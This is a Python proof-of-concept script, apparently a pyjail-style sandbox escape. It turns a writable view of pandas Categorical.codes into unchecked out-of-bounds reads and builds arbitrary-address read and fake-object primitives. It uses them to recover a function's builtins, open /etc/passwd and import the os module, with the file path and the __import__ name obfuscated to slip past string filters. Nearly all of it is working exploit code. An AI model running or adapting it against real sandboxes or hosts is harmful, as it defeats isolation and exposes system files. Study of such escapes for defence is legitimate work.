# source: pandas Categorical.codes read-only view (pandas-dev/pandas issues on Categorical codes mutation / take_1d boundscheck(False)); classic CPython "fake object / addr->obj" primitive from pyjail write-ups
# family: memory safety - writable view of Categorical.codes (setflags(write=True)) -> unchecked libalgos.take_1d OOB read/fetch; np.frombuffer(bytes) anchors the address via id()
# goal: builtins dict of a script function (func_builtins), code object, open() -> reads /etc/passwd, __import__ -> os module
import numpy as np
import pandas as pd

N = 4400000
raw = np.arange(N, dtype=np.int64).tobytes()
cats = pd.Index(np.frombuffer(raw, dtype=np.int64))
ci = pd.Categorical.from_codes([0], categories=cats)
base = id(raw) + 32
vc = ci.codes
vc.setflags(write=True)


def rd(addr):
    vc[0] = (addr - base) // 8
    return int(np.asarray(ci)[0])


objs = pd.Index(np.arange(N).astype(object), dtype=object)
co = pd.Categorical.from_codes([0], categories=objs)
obase = rd(id(co.categories.values) + 16)
vo = co.codes
vo.setflags(write=True)


def fetch(addr):
    vo[0] = (addr - obase) // 8
    return np.asarray(co)[0]


def f():
    return 0


b = fetch(id(f) + 24)
print("builtins dict:", type(b), len(b))
print("code object:", fetch(id(f) + 48))
path = "".join(chr(c) for c in [47, 101, 116, 99, 47, 112, 97, 115, 115, 119, 100])
print(b["open"](path).read())
u = chr(95) * 2
m = b[u + "import" + u]("o" + "s")
print(m, m.getuid())
